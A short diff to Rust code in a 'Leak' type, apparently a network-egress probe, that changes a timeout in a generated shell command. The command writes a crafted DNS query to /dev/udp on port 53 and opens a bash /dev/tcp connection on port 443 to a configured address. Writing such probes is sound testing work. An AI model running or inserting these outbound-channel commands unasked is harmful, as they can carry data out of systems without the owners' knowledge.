@@ -55,7 +55,7 @@ impl Leak {
         }
         question.push_str(r"\x00\x00\x01\x00\x01");
         format!(
-            "printf '{question}' > /dev/udp/{0}/53; timeout 1 bash -c ': < /dev/tcp/{0}/443' 2>/dev/null; true",
+            "printf '{question}' > /dev/udp/{0}/53; timeout 5 bash -c ': < /dev/tcp/{0}/443' 2>/dev/null; true",
             self.address()
         )
     }
